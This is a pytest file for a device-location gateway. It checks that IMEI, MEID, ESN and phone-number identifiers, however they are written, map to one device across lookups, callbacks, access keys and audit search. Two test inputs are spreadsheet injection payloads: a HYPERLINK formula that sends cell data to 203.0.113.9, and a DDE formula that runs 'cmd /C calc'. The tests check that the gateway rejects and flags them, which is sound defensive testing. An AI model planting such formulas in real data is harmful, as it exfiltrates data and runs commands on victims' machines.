"""One device has one key, however requests, paths, filters and callbacks write its identifiers."""

import json
from typing import Any
from urllib.parse import quote

import httpx
import pytest
from fastapi import FastAPI

from tests.support.shared_gateway import MakeKey
from tests.support.vendors import ACCOUNT, CALLBACK_PATH, DEVICE, IMEI, MDN, Vendors, asked, message

pytestmark = pytest.mark.asyncio(loop_scope="module")

MEID = "A10000EE77FF88"
ESN = "8021AB4F"
IMEIS = [
    IMEI,
    "99000112345678",
    "9900011234567801",
    "99-000112-345678-2",
    "99 000112 345678 2",
    "imei:990001123456782",
    "urn:gsma:imei:99000112-345678-0",
    "'990001123456782",
    "990001123456782.0",
    "\u200b990001123456782\u200e",
    "\uff19\uff19\uff10\uff10\uff10\uff11\uff11\uff12\uff13\uff14\uff15\uff16\uff17\uff18\uff12",
]
MDNS = [MDN, "15085550101", "+15085550101", "1-508-555-0101", "(508) 555-0101", "0015085550101", "tel:+1-508-555-0101"]
FOREIGN = ["+447700900123", "00447700900123", "tel:+49-30-123456"]


async def call_back(gateway: httpx.AsyncClient, number: int = 0, **device: Any) -> None:
    body = message(number)
    body["deviceList"][0] |= device
    response = await gateway.post(CALLBACK_PATH, json=body)
    assert response.status_code == 200


async def reports_of(gateway: httpx.AsyncClient, **filters: str) -> list[dict[str, Any]]:
    response = await gateway.get("/reports", params=filters)
    assert response.status_code == 200, response.text
    found: list[dict[str, Any]] = response.json()["reports"]
    return found


@pytest.mark.parametrize("imei", IMEIS)
async def test_a_question_sends_the_canonical_imei(gateway: httpx.AsyncClient, vendors: Vendors, imei: str) -> None:
    answer = await gateway.post("/locate", json={"device": {"imei": imei, "mdn": MDN}, "maxAge": 0})

    assert answer.json()["device"] == DEVICE
    assert asked(vendors.thingspace_calls[0])["deviceList"] == [{"id": IMEI, "kind": "imei", "mdn": MDN}]


@pytest.mark.parametrize("mdn", MDNS)
async def test_a_question_sends_the_canonical_number(gateway: httpx.AsyncClient, vendors: Vendors, mdn: str) -> None:
    answer = await gateway.post("/locate", json={"device": {"imei": IMEI, "mdn": mdn}, "maxAge": 0})

    assert answer.json()["device"] == DEVICE
    assert asked(vendors.thingspace_calls[0])["deviceList"][0]["mdn"] == MDN


async def test_equal_devices_of_a_batch_are_asked_about_once(gateway: httpx.AsyncClient, vendors: Vendors) -> None:
    requests = [
        {"id": str(n), "device": {"imei": imei, "mdn": mdn}}
        for n, (imei, mdn) in enumerate(zip(IMEIS, MDNS, strict=False))
    ]

    answer = await gateway.post("/locate/batch", json={"requests": requests})

    assert answer.json()["summary"] == {"located": len(requests), "failed": 0}
    assert len(vendors.thingspace_calls) == 1


@pytest.mark.parametrize("member", ["imei", "mdn"])
async def test_a_device_stands_in_a_start_once(gateway: httpx.AsyncClient, member: str) -> None:
    again = {"imei": "99-000112-345678-2"} if member == "imei" else {"imei": "990001123456790", "mdn": f"+1{MDN}"}

    response = await gateway.post("/periodic", json={"devices": [DEVICE, again], "interval": 60, "count": 1})

    assert response.status_code == 422
    assert [(error["pointer"], error["code"]) for error in response.json()["errors"]] == [
        (f"/devices/1/{member}", "DUPLICATE")
    ]


async def test_a_start_repeated_in_other_spellings_is_the_same(gateway: httpx.AsyncClient, vendors: Vendors) -> None:
    vendors.thingspace = lambda _: httpx.Response(200, json={"transactionID": "t-spelt"})
    plan = {"interval": 60, "count": 1}
    headers = {"Idempotency-Key": "spelt"}

    first = await gateway.post("/periodic", json={"devices": [DEVICE], **plan}, headers=headers)
    spelt = {"imei": "99000112345678", "phoneNumber": f"+1{MDN}"}
    again = await gateway.post("/periodic", json={"devices": [spelt], **plan}, headers=headers)

    assert (first.status_code, again.status_code) == (202, 202)
    assert again.json()["id"] == first.json()["id"]
    assert len(vendors.thingspace_calls) == 1


async def test_a_stop_takes_numbers_as_they_are_written(gateway: httpx.AsyncClient, vendors: Vendors) -> None:
    vendors.thingspace = lambda _: httpx.Response(200, json={"transactionID": "t-stopped"})
    started = await gateway.post("/periodic", json={"devices": [DEVICE], "interval": 60, "count": 1})

    stopped = await gateway.delete(f"/periodic/{started.json()['id']}", params={"mdn": ["1-508-555-0101", f"+1{MDN}"]})

    assert stopped.json()["stop"] == {"requested": 1, "accepted": 1, "failed": []}


@pytest.mark.parametrize("imei", IMEIS)
async def test_reports_and_positions_are_found_by_every_spelling(gateway: httpx.AsyncClient, imei: str) -> None:
    await call_back(gateway, id=IMEI)

    assert len(await reports_of(gateway, imei=imei)) == 1
    assert (await gateway.get(f"/devices/{quote(imei, safe='')}/location")).json()["device"]["imei"] == IMEI


@pytest.mark.parametrize("mdn", MDNS)
async def test_reports_and_positions_are_found_by_every_number(gateway: httpx.AsyncClient, mdn: str) -> None:
    await call_back(gateway)

    assert len(await reports_of(gateway, mdn=mdn)) == 1
    assert (await gateway.get(f"/devices/{quote(mdn, safe='')}/location")).json()["device"]["mdn"] == MDN


async def test_a_plus_sign_that_came_as_a_space_is_one(gateway: httpx.AsyncClient) -> None:
    await call_back(gateway)

    assert len((await gateway.get("/reports?mdn=+15085550101")).json()["reports"]) == 1


@pytest.mark.parametrize("slashed", ["99/000112/345678/2", "01/2", "plant/pump"])
async def test_a_slash_in_a_path_belongs_to_the_identifier(gateway: httpx.AsyncClient, slashed: str) -> None:
    await call_back(gateway)

    response = await gateway.get(f"/devices/{quote(slashed, safe='')}/location")

    assert (response.status_code, response.json().get("code")) in [(200, None), (404, "NOT_FOUND")]
    assert (response.status_code == 200) is (slashed == "99/000112/345678/2")


@pytest.mark.parametrize(
    ("kind", "canonical", "spellings"),
    [
        ("meid", MEID, ["a10000ee77ff88", "A1-0000-EE77-FF88", "0xa10000ee77ff88", "270113201407864200"]),
        ("esn", ESN, ["8021ab4f", "0x8021AB4F", "12802206543"]),
        ("imei", IMEI, IMEIS),
    ],
)
async def test_one_device_is_one_report_and_every_spelling_finds_and_erases_it(
    gateway: httpx.AsyncClient, kind: str, canonical: str, spellings: list[str]
) -> None:
    for spelling in (canonical, *spellings):
        await call_back(gateway, id=spelling, kind=kind)

        [report] = await reports_of(gateway, **{kind: spelling})
        assert report["device"] == {kind: canonical, "mdn": MDN}
        assert (await gateway.get(f"/devices/{quote(spelling, safe='')}/location")).json()["id"] == report["id"]

    erased = (await gateway.delete(f"/devices/{quote(spellings[0], safe='')}")).json()["erased"]

    assert (erased["reports"], erased["callbacks"], erased["aliases"]) == (1, len(spellings) + 1, 1)
    assert await reports_of(gateway) == []


@pytest.mark.parametrize("id_", ["9.90001E+14", "pump", '=HYPERLINK("http://203.0.113.9/?"&A1,"x")', 12345])
async def test_what_cannot_be_an_identifier_is_kept_raw_flagged_and_teaches_nothing(
    gateway: httpx.AsyncClient, gateway_app: FastAPI, vendors: Vendors, id_: Any
) -> None:
    await call_back(gateway, id=IMEI)
    await call_back(gateway, 1, id=id_)

    newest, _ = await reports_of(gateway, mdn=MDN)
    raw = (await gateway.get(f"/reports/{newest['id']}")).json()["callback"]["body"]
    answer = await gateway.post("/locate", json={"device": {"mdn": MDN}, "maxAge": 0})

    assert newest["device"] == {"mdn": MDN}
    assert "identifier_unreadable" in newest["flags"]
    assert json.loads(raw)["deviceList"][0]["id"] == id_
    assert answer.status_code == 200
    assert asked(vendors.thingspace_calls[0])["deviceList"] == [{"id": IMEI, "kind": "imei", "mdn": MDN}]


async def test_a_number_that_cannot_be_one_is_not_taught(gateway: httpx.AsyncClient) -> None:
    await call_back(gateway, mdn="@SUM(1+1)*cmd|' /C calc'!A0")

    [report] = await reports_of(gateway)

    assert report["device"] == {"imei": IMEI}
    assert "identifier_unreadable" in report["flags"]


@pytest.mark.parametrize("number", FOREIGN)
async def test_numbers_of_other_countries_are_refused_everywhere(gateway: httpx.AsyncClient, number: str) -> None:
    device = {"imei": IMEI, "mdn": number}
    plan = {"devices": [device], "interval": 60, "count": 1}
    responses = [
        await gateway.post("/locate", json={"device": device}),
        await gateway.post("/locate", json={"device": {"imei": IMEI, "phoneNumber": number}}),
        await gateway.post("/periodic", json=plan),
        await gateway.get("/reports", params={"mdn": number}),
        await gateway.delete("/periodic/t-1", params={"mdn": number}),
        await gateway.get(f"/devices/{quote(number, safe='')}/location"),
        await gateway.delete(f"/devices/{quote(number, safe='')}"),
    ]

    for response in responses:
        problem = response.json()
        assert (response.status_code, problem["code"]) == (422, "UNSUPPORTED_IDENTIFIER")
        assert problem["errors"][0]["code"] == "UNSUPPORTED"
        assert "+1" in problem["errors"][0]["detail"]
        assert number not in response.text


@pytest.mark.parametrize("member", ["imei", "meid", "esn", "mdn", "phoneNumber", "account"])
async def test_a_number_in_place_of_a_text_is_refused_in_words_that_help(
    gateway: httpx.AsyncClient, member: str
) -> None:
    response = await gateway.post("/locate", json={"device": {member: 990001123456782}})

    assert response.status_code == 422
    assert response.json()["errors"] == [
        {
            "pointer": f"/device/{member}",
            "code": "INVALID_FORMAT",
            "detail": "must be a text in quotes; a number may have lost digits",
        }
    ]


@pytest.mark.parametrize("spelling", ["99-000112-345678-2", "9900011234567801", "99-000112-*", "(508) 555-0101"])
async def test_a_key_reaches_its_device_however_the_key_writes_it(
    gateway: httpx.AsyncClient, make_key: MakeKey, spelling: str
) -> None:
    await call_back(gateway)
    headers = await make_key("reports:read", devices=[spelling])

    found = (await gateway.get("/reports", headers=headers)).json()["reports"]

    assert [report["device"] for report in found] == [DEVICE]


@pytest.mark.parametrize("imei", IMEIS)
async def test_a_key_reaches_its_device_however_the_question_writes_it(
    gateway: httpx.AsyncClient, make_key: MakeKey, imei: str
) -> None:
    headers = await make_key("locate", devices=[IMEI, MDN])

    response = await gateway.post("/locate", json={"device": {"imei": imei, "mdn": f"+1{MDN}"}}, headers=headers)

    assert response.status_code == 200


@pytest.mark.parametrize("device", ["99-000112-345678-2", "1-508-555-0101", "9900011234567801"])
async def test_the_audit_trail_is_searched_by_every_spelling(gateway: httpx.AsyncClient, device: str) -> None:
    await gateway.post("/locate", json={"device": DEVICE, "maxAge": 0})

    entries = (await gateway.get("/audit", params={"device": device, "action": "locate"})).json()["entries"]

    assert {entry["device"] for entry in entries} == {IMEI}


async def test_an_account_copied_with_what_cannot_be_seen_is_the_same(gateway: httpx.AsyncClient) -> None:
    await call_back(gateway)

    assert len(await reports_of(gateway, account=f"\ufeff{ACCOUNT}\u200b ")) == 1


async def test_imeis_that_differ_in_a_wrong_check_digit_are_different_devices(gateway: httpx.AsyncClient) -> None:
    await call_back(gateway, id="990001123456789")

    assert await reports_of(gateway, imei=IMEI) == []
    assert await reports_of(gateway, imei="99000112345678") == []
    assert len(await reports_of(gateway, imei="990001123456789")) == 1


async def test_a_session_counts_its_device_however_request_and_callback_write_it(
    gateway: httpx.AsyncClient, vendors: Vendors
) -> None:
    vendors.thingspace = lambda _: httpx.Response(200, json={"transactionID": "t-counted"})
    plan = {"devices": [{"imei": "99000112345678", "mdn": f"+1{MDN}"}], "interval": 60, "count": 2}
    session = (await gateway.post("/periodic", json=plan)).json()["id"]

    for number, spelling in enumerate([IMEI, "9900011234567801"]):
        body = message(number, transactionID="t-counted\u200b ")
        body["deviceList"][0]["id"] = spelling
        await gateway.post(CALLBACK_PATH, json=body)

    devices = (await gateway.get(f"/periodic/{session}/devices")).json()["devices"]
    assert [(device["device"]["imei"], device["received"]) for device in devices] == [(IMEI, 2)]
